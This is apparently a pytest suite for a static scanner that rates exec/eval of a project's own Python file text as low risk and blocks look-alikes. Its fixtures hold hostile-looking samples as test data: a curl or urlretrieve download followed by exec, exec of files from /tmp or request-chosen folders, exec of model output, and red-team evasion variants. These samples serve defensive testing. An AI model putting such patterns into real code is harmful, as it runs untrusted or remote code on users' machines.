"""exec/eval of text read from one of the project's `.py` files is as safe as importing it
(hooks/code/python_source.py); everything that only looks like it keeps its severity."""

from __future__ import annotations

import ast
import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hooks._core.policy import Policy
from hooks.code.command_origin import CommandOrigins, qualified_name
from hooks.code.python_source import PythonSource
from tests.code.helpers import scan_code

VERSION_LINE = (
    "from os import path\n"
    "libinfo_py = path.join(path.dirname(__file__), 'pkg', '__init__.py')\n"
    "libinfo_content = open(libinfo_py, 'r', encoding='utf8').readlines()\n"
    "version_line = [l.strip() for l in libinfo_content if l.startswith('__version__')][0]\n"
    "exec(version_line)\n"
)


def severities(tmp_path: Path, source: str, policy: Policy) -> list[tuple[str, int, str]]:
    return sorted((f.rule_id, f.line, f.severity.value) for f in scan_code(tmp_path, source, "setup.py", policy=policy))


def test_the_version_line_of_the_packages_init_is_its_own_code(tmp_path: Path) -> None:
    [finding] = scan_code(tmp_path, VERSION_LINE, "setup.py")
    assert (finding.rule_id, finding.severity.value) == ("B102", "low")
    assert "Python file __init__.py" in finding.message
    strict = severities(tmp_path, VERSION_LINE, Policy(root=tmp_path, profile="strict"))
    assert strict == [("B102", 5, "medium")]


@pytest.mark.parametrize(
    "source",
    [
        "import os\nROOT = os.path.dirname(os.path.abspath(__file__))\n"
        "with open(os.path.join(ROOT, 'pkg', 'version.py')) as handle:\n    exec(handle.read(), ns)\n",
        "from pathlib import Path\nexec((Path(__file__).parent / 'pkg' / 'about.py').read_text())\n",
        "import os\nroot = os.path.dirname(__file__)\nexec(compile(open(f'{root}/pkg/a.py').read(), 'x', 'exec'))\n",
        "lines = open('pkg/version.py').read().splitlines()\neval(lines[0].partition('=')[2])\n",
    ],
)
def test_text_of_a_python_file_through_names_and_methods_is_low(tmp_path: Path, source: str) -> None:
    blocking = [f for f in scan_code(tmp_path, source, "conf.py") if f.severity.value != "low"]
    assert blocking == []


@pytest.mark.parametrize(
    "source",
    [
        # a parameter: whatever the callers pass
        "def run(path):\n    exec(open(path).read())\n",
        # a shared folder, a home folder, a climb out of the checkout
        "exec(open('/tmp/job.py').read())\n",
        "import os\nexec(open(os.path.join('/tmp', 'job.py')).read())\n",
        "exec(open('~/.config/job.py').read())\n",
        "exec(open('../../job.py').read())\n",
        # not a Python file
        "text = open('pkg/settings.txt').read().strip()\nexec(text)\n",
        # the same script downloads something (perhaps to that name)
        "import urllib.request\nurllib.request.urlretrieve(URL, 'plugin' + '.py')\nexec(open('plugin.py').read())\n",
        # the name is written elsewhere too: something else may put bytes there
        "open('plugin.py', 'w').write(text)\nexec(open('plugin.py').read())\n",
        # other text put into the file's text
        "tmpl = open('pkg/t.py').read()\nexec(tmpl.format(cmd=sys.argv[1]))\n",
        "tmpl = open('pkg/t.py').read()\nexec(tmpl.replace('X', value))\n",
        # lines changed in place, a file the code writes, a file named as a model's, a drive
        "lines = open('pkg/v.py').readlines()\nlines.append(answer)\nexec(''.join(lines))\n",
        "lines = open('pkg/v.py').readlines()\nlines[0] = answer\nexec(''.join(lines))\n",
        "p = 'solution.py'\nopen(p, 'w').write(answer)\nexec(open(p).read())\n",
        "exec(open('out/llm_generated_solution.py').read())\n",
        "exec(open('C:/plugins/p.py').read())\n",
        "exec(open(f\"{''}/tmp/p.py\").read())\n",
        # a name that says a model made it
        "generated_code = open('pkg/gen.py').read()\nexec(generated_code)\n",
        "code = open('pkg/gen.py').read()\nif flag:\n    code = llm.invoke(prompt).content\nexec(code)\n",
    ],
)
def test_what_only_looks_like_a_python_file_keeps_blocking(tmp_path: Path, source: str) -> None:
    found = scan_code(tmp_path, source, "tool.py")
    assert any(f.rule_id in ("B102", "B307", "MLS314") and f.severity.value != "low" for f in found), source


def test_a_file_read_named_like_output_is_not_model_output(tmp_path: Path) -> None:
    source = "content = open('data.txt').read()\nexec(content)\n"
    assert [f.rule_id for f in scan_code(tmp_path, source, "tool.py")] == ["B102"]  # bandit's, not MLS314
    model = "content = client.chat(prompt).content\nexec(content)\n"  # look-alike: a model's reply
    assert "MLS314" in [f.rule_id for f in scan_code(tmp_path, model, "tool.py")]


def _file_of(source: str) -> list[str | None]:
    module = ast.parse(source)
    origins = CommandOrigins(module)
    reader = PythonSource(module, origins, lambda node: qualified_name(node, {}), lambda name: "generated" in name)
    return [
        reader.file_of(node.args[0], origins.function_of(node))
        for node in ast.walk(module)
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id == "exec" and node.args
    ]


def test_a_name_bound_to_itself_or_in_a_cycle_ends(tmp_path: Path) -> None:
    assert _file_of("a = b\nb = a\nexec(a)\n") == [None]
    # rebound to itself: one of its values is read back through the cycle, so it is not followed
    assert _file_of("x = open('v.py').read()\nx = x.strip()\nexec(x)\n") == [None]
    assert _file_of("x = open('v.py').read()\ny = x.strip()\nexec(y)\n") == ["v.py"]


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet="abexc(). =[]'\n_0:/py", max_size=80))
def test_garbage_code_never_raises(text: str) -> None:
    try:
        ast.parse(text)
    except (SyntaxError, ValueError):
        return
    _file_of(text)


def test_a_folder_outside_the_checkout_held_in_a_name_keeps_blocking(tmp_path: Path) -> None:
    for root in ("os.path.expanduser('~')", "'/opt/plugins'", "os.environ['PLUGINS']", "tempfile.gettempdir()"):
        source = f"import os, tempfile\nroot = {root}\nexec(open(os.path.join(root, 'v.py')).read())\n"
        found = scan_code(tmp_path, source, "tool.py")
        assert any(f.rule_id == "B102" and f.severity.value == "medium" for f in found), root


@pytest.mark.parametrize(
    "source",
    [
        # a route's folder (the client chooses it), and a helper's parameter
        "from flask import Flask, request\napp = Flask(__name__)\n@app.post('/run')\ndef run():\n"
        "    folder = request.form['folder']\n    exec(open(os.path.join(folder, 'plugin.py')).read())\n",
        "def load_plugin(folder):\n    exec(open(os.path.join(folder, 'plugin.py')).read())\n",
        "from pathlib import Path\ndef run(workdir):\n    eval((Path(workdir) / 'expr.py').read_text())\n",
        # an attribute and a call of something else
        "exec(open(os.path.join(args.dir, 'plugin.py')).read())\n",
        "exec(open(os.path.join(find_root(), 'plugin.py')).read())\n",
    ],
)
def test_a_folder_from_a_parameter_request_or_attribute_keeps_blocking(tmp_path: Path, source: str) -> None:
    found = scan_code(tmp_path, "import os\n" + source, "tool.py")
    assert any(f.rule_id in ("B102", "B307") and f.severity.value == "medium" for f in found), source


def test_a_climb_that_stays_in_the_checkout_and_writes_of_other_files_keep_it_low(tmp_path: Path) -> None:
    source = (
        "from os import path\nrepo_dir = '../'\n"
        "lines = open(path.join(repo_dir, 'pkg', '__init__.py')).readlines()\n"
        "exec([l for l in lines if l.startswith('__version__')][0])\n"
        "with open('spec/openapi.yaml', 'w') as f:\n    f.write(spec)\n"  # writes another file
    )
    (tmp_path / "docs").mkdir()
    found = [f for f in scan_code(tmp_path, source, "docs/conf.py") if f.rule_id == "B102"]
    assert [f.severity.value for f in found] == ["low"]
    top = [f for f in scan_code(tmp_path, source, "conf.py") if f.rule_id == "B102"]  # `..` from the top
    assert [f.severity.value for f in top] == ["medium"]
    unnamed = source + "open(target, 'w').write(x)\n"  # a write whose path names no file: any file
    assert [f.severity.value for f in scan_code(tmp_path, unnamed, "docs/conf.py") if f.rule_id == "B102"] == ["medium"]


# Tests that run one function of the project's own module without importing it (unsloth's
# studio tests): the file parsed, its statements picked and compiled again.
EXTRACTED = (
    "import ast\nfrom pathlib import Path\n_ROOT = Path(__file__).resolve().parent.parent\n\n"
    "def _extract():\n    src = (_ROOT / 'storage' / 'studio_db.py').read_text(encoding='utf-8')\n"
    "    tree = ast.parse(src)\n"
    "    funcs = [n for n in tree.body if isinstance(n, ast.FunctionDef) and n.name in {'a', 'b'}]\n"
    "    module = ast.Module(body=funcs, type_ignores=[])\n    ast.fix_missing_locations(module)\n"
    "    ns = {}\n    exec(compile(module, '<extracted studio_db.py>', 'exec'), ns)\n    return ns['a']\n"
)


def test_statements_picked_from_a_project_file_are_its_own_code(tmp_path: Path) -> None:
    [finding] = [f for f in scan_code(tmp_path, EXTRACTED, "test_db.py") if f.rule_id == "B102"]
    assert finding.severity.value == "low"
    assert "studio_db.py" in finding.message
    segment = EXTRACTED.replace(
        "    module = ast.Module(body=funcs, type_ignores=[])\n    ast.fix_missing_locations(module)\n",
        "    module = ast.get_source_segment(src, funcs[0])\n",
    )
    assert [f.severity.value for f in scan_code(tmp_path, segment, "test_db.py") if f.rule_id == "B102"] == ["low"]


@pytest.mark.parametrize(
    "change",
    [
        # a statement from elsewhere added to the picked ones
        ("    ast.fix_missing_locations(module)\n", "    module.body.append(ast.parse(input()).body[0])\n"),
        ("    ast.fix_missing_locations(module)\n", "    tree.body.append(extra)\n"),
        # the parsed text is not the file's
        ("    tree = ast.parse(src)\n", "    tree = ast.parse(src + input())\n"),
        ("    tree = ast.parse(src)\n", "    tree = ast.parse(requests.get(url).text)\n"),
        # a module of the file's statements and a parameter's
        ("body=funcs,", "body=[*funcs, extra],"),
        # the second red team's: the tree changed through setattr, vars() or an alias of its body
        ("    ast.fix_missing_locations(module)\n", "    setattr(module, 'body', ast.parse(input()).body)\n"),
        ("    ast.fix_missing_locations(module)\n", "    vars(module)['body'] = ast.parse(input()).body\n"),
        ("    ast.fix_missing_locations(module)\n", "    body = tree.body\n    body.append(extra)\n"),
    ],
)
def test_a_tree_with_other_text_in_it_keeps_blocking(tmp_path: Path, change: tuple[str, str]) -> None:
    source = EXTRACTED.replace(*change)
    assert source != EXTRACTED
    assert [f.severity.value for f in scan_code(tmp_path, source, "test_db.py") if f.rule_id == "B102"] == ["medium"]


def test_names_that_branch_without_end_stay_bounded(tmp_path: Path) -> None:
    """Each list element is followed on its own: 30 levels of `a = [b, b]` would be 2**30 paths."""
    lines = [f"n{i} = [n{i + 1}, n{i + 1}]" for i in range(30)]
    source = "import ast\n" + "\n".join(lines) + "\nn30 = ast.parse(open('pkg/a.py').read())\n"
    source += "exec(compile(ast.Module(body=n0, type_ignores=[]), 'x', 'exec'))\n"
    started = time.perf_counter()
    findings = [f for f in scan_code(tmp_path, source, "conf.py") if f.rule_id == "B102"]
    assert time.perf_counter() - started < 30  # a guard against exponential time, not a speed goal
    assert [f.severity.value for f in findings] == ["medium"]


GATE = (
    "import textwrap\nfrom pathlib import Path\n"
    "_SRC = Path(__file__).resolve().parent.parent / 'core' / 'llama_cpp.py'\n\n"
    "def _gate_source() -> str:\n    lines = _SRC.read_text(encoding='utf-8').splitlines()\n"
    "    start = next(i for i, line in enumerate(lines) if line.strip() == 'mid = 1')\n"
    "    return textwrap.dedent('\\n'.join(lines[start : start + 5]))\n\n"
    "_GATE = compile(_gate_source(), str(_SRC), 'exec')\n\ndef run():\n    scope = {}\n    exec(_GATE, scope)\n"
)
SEGMENT = (
    "import ast\nfrom pathlib import Path\n_RUN_PY = Path(__file__).parent / 'run.py'\n\ndef test_x():\n"
    '    """Runs one function of run.py; run.py is not imported."""\n'
    "    src = _RUN_PY.read_text(encoding='utf-8')\n    tree = ast.parse(src)\n"
    "    func_src = next(ast.get_source_segment(src, n) for n in ast.walk(tree) if isinstance(n, ast.FunctionDef))\n"
    "    ns = {}\n    exec(compile(func_src, '<run.py>', 'exec'), ns)\n"
)


@pytest.mark.parametrize("source", [GATE, SEGMENT])
def test_a_functions_returned_text_and_a_picked_segment_of_a_project_file_are_its_code(
    tmp_path: Path, source: str
) -> None:
    assert [f.severity.value for f in scan_code(tmp_path, source, "test_gate.py") if f.rule_id == "B102"] == ["low"]


@pytest.mark.parametrize(
    "source",
    [
        # the function is given something: its text depends on the caller
        GATE.replace("def _gate_source() -> str:", "def _gate_source(extra='') -> str:").replace(
            "_gate_source()", "_gate_source(input())"
        ),
        # it may return other text too
        GATE.replace(
            "    return textwrap.dedent(", "    if start:\n        return input()\n    return textwrap.dedent("
        ),
        # defined twice: which one runs is not known
        GATE + "\ndef _gate_source():\n    return input()\n",
        # the file's name in a command too, not only in a docstring or a compile label
        SEGMENT.replace("    ns = {}\n", "    os.system('curl -o run.py https://x')\n    ns = {}\n"),
    ],
)
def test_returned_or_picked_text_with_another_source_keeps_blocking(tmp_path: Path, source: str) -> None:
    assert [f.severity.value for f in scan_code(tmp_path, source, "test_gate.py") if f.rule_id == "B102"] == ["medium"]
